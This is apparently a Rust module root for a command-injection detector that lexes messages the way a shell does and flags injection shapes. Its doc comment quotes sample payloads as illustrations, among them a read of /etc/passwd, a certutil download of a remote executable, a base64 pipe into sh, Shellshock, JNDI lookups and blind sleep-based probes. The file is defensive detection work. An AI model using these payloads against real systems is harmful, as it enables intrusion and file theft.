//! Command injection detection: a shell lexer and judgements by position and shape.
//!
//! A message is treated as an argument an application pastes into a shell command line (POSIX
//! shell, cmd.exe or PowerShell). The lexer (`lexer.rs`) reads words the way a shell does: quotes
//! and escapes removed (`w'h'o\ami`, `w^hoami`, `$'\x69d'`), empty expansions dropped
//! (`c$@at`, `c${u}at`), `$IFS` as a blank, globs kept for resolution (`/???/c?t`). The
//! vocabulary (`vocab.rs`, from the OWASP CRS lists) says which words name commands and of what
//! kind: probes, network tools, interpreters, file readers, timers, system changers, Windows
//! tools, PowerShell cmdlets, other Unix tools.
//!
//! The rules (`rules/`) judge shapes, never known payloads:
//!
//! - a command in the position an injection creates: right after the first token of the message
//!   or at the start of a command list, a plausible command line (`127.0.0.1; id`,
//!   `x|echo QWE`, `x\nsleep 5`); deep inside a sentence, only an unmistakable one
//!   (`; cat /etc/passwd`); in `$(...)` or backticks; in a brace expansion;
//! - a whole message that is a dangerous command line (`nohup ifconfig`, `cmd /c whoami`,
//!   `Start-Sleep -s 5`, `certutil -urlcache -f http://h/p.exe`) or a pipeline into an
//!   interpreter (`printf aWQ=|base64 -d|sh`);
//! - expansions only payloads have (`$((21+21))`, `${#V}`, `V=$(id)` then `$V`, `${IFS}`, `<<<`,
//!   `${jndi:...}`), control flow carrying a payload (`if [ 3 -eq 3 ]; then sleep 4; fi`,
//!   `[ 7 -ne $(id|wc -c) ] || sleep 4`, cmd.exe `for /f ... do`, also inside code handed to a
//!   shell), PowerShell .NET downloaders and cmd.exe environment substrings;
//! - code that runs commands (Shellshock, PHP evaluation, SSI, template injection,
//!   `system('id')`).
//!
//! What it leaves alone: prose with `;`, `|` or `&` inside a sentence, people discussing or
//! pasting ordinary command lines (`sudo apt-get update`, `ls -la /etc`, `rm -rf is dangerous`),
//! Markdown code spans (`` `hostname` is ... ``), regular expressions (`(cp|cmd)`).

mod lexer;
mod rules;
#[cfg(test)]
mod tests;
mod vocab;

use super::normalize::Marks;
use super::rules::{RuleFilter, RuleInfo};
use crate::model::AuditTag;
use lexer::Command;
use rules::Rule;

/// The development corpus's sources of this class: the rules tuned on them.
const DEV_SOURCES: &[&str] = &["payloadbox-cmdi", "fuzzdb-cmdi", "patt-cmdi"];

/// Every rule this detector reports (see [`super::rules`]).
pub(super) static RULES: &[RuleInfo] = &[
    RuleInfo::written_for("cmdi-brace-expansion", AuditTag::CmdInjection, DEV_SOURCES),
    RuleInfo::written_for("cmdi-chain", AuditTag::CmdInjection, DEV_SOURCES),
    RuleInfo::written_for("cmdi-code-exec", AuditTag::CmdInjection, DEV_SOURCES),
    RuleInfo::written_for("cmdi-command", AuditTag::CmdInjection, DEV_SOURCES),
    RuleInfo::written_for(
        "cmdi-obfuscated-command",
        AuditTag::CmdInjection,
        DEV_SOURCES,
    ),
    RuleInfo::written_for("cmdi-reverse-shell", AuditTag::CmdInjection, DEV_SOURCES),
    RuleInfo::written_for("cmdi-shellshock", AuditTag::CmdInjection, DEV_SOURCES),
    RuleInfo::written_for("cmdi-ssi", AuditTag::CmdInjection, DEV_SOURCES),
    RuleInfo::written_for("cmdi-substitution", AuditTag::CmdInjection, DEV_SOURCES),
    RuleInfo::written_for(
        "cmdi-template-injection",
        AuditTag::CmdInjection,
        DEV_SOURCES,
    ),
    // Shapes of the shell and Windows languages (the examples, own variants; no list's
    // misses).
    RuleInfo::language("cmdi-arithmetic-expansion", AuditTag::CmdInjection),
    RuleInfo::language("cmdi-parameter-expansion", AuditTag::CmdInjection),
    RuleInfo::language("cmdi-assigned-substitution", AuditTag::CmdInjection),
    RuleInfo::language("cmdi-ifs-blank", AuditTag::CmdInjection),
    RuleInfo::language("cmdi-here-string", AuditTag::CmdInjection),
    RuleInfo::language("cmdi-jndi-lookup", AuditTag::CmdInjection),
    RuleInfo::language("cmdi-control-flow", AuditTag::CmdInjection),
    RuleInfo::language("cmdi-windows-for", AuditTag::CmdInjection),
    RuleInfo::language("cmdi-pipe-to-shell", AuditTag::CmdInjection),
    RuleInfo::language("cmdi-windows-env-substring", AuditTag::CmdInjection),
    RuleInfo::language("cmdi-powershell-dotnet", AuditTag::CmdInjection),
    // Shapes of command-injection generators' payload templates (commix-style blind oracles),
    // written from own examples of each construct (never a held-out row).
    RuleInfo::language("cmdi-test-chain", AuditTag::CmdInjection),
    // Written while reading the CRS regression tests' misses.
    RuleInfo::written_for("cmdi-glob-path", AuditTag::CmdInjection, &["crs-932"]),
    RuleInfo::written_for("cmdi-command-list", AuditTag::CmdInjection, &["crs-932"]),
    RuleInfo::written_for(
        "cmdi-absolute-command",
        AuditTag::CmdInjection,
        &["crs-932"],
    ),
    RuleInfo::written_for("cmdi-alias", AuditTag::CmdInjection, &["crs-932"]),
    RuleInfo::written_for(
        "cmdi-relative-sensitive-read",
        AuditTag::CmdInjection,
        &["crs-932"],
    ),
];

/// Is `word` (any case) the name of a command the detector knows? A cheap test for JSON strings
/// that are one plain token: only those can be a whole command line.
pub fn is_command_word(word: &[u8]) -> bool {
    let mut buf = [0u8; 24];
    if word.is_empty() || word.len() > buf.len() {
        return false;
    }
    for (d, &c) in buf.iter_mut().zip(word) {
        *d = c.to_ascii_lowercase();
    }
    vocab::kind(&buf[..word.len()]).is_some()
}

/// The first command-injection rule that fires on `view` (whose marks are `marks`) among those
/// `rules` allows.
pub fn detect(view: &[u8], marks: Marks, rules: RuleFilter<'_>) -> Option<Rule> {
    if view.is_empty() {
        return None;
    }
    let mut cmd = Command::new();
    if let Some(r) = rules::code::code_constructs(view, marks, rules) {
        return Some(r);
    }
    if let Some(r) = rules::leading::leading_command(view, &mut cmd, rules) {
        return Some(r);
    }
    if let Some(r) = rules::leading::alias_definition(view, marks, rules) {
        return Some(r);
    }
    if let Some(r) = rules::expansion::expansions(view, marks, &mut cmd, rules) {
        return Some(r);
    }
    if let Some(r) = rules::glob::glob_path(view, marks, rules) {
        return Some(r);
    }
    if let Some(r) = rules::windows::windows_shapes(view, marks, rules) {
        return Some(r);
    }
    if let Some(r) = rules::control::control_flow(view, marks, &mut cmd, rules) {
        return Some(r);
    }
    // Every other rule needs a separator, a substitution, a brace or a redirection.
    if !marks.any(TRIGGER_MARKS) {
        return None;
    }
    if let Some(r) = rules::position::command_positions(view, &mut cmd, rules) {
        return Some(r);
    }
    if marks.has(b'|') {
        return rules::leading::pipe_to_interpreter(view, &mut cmd, rules);
    }
    None
}

/// Bytes the command-position scans start from.
const TRIGGER_MARKS: Marks = Marks::of(b";\n\r|&`${<>");
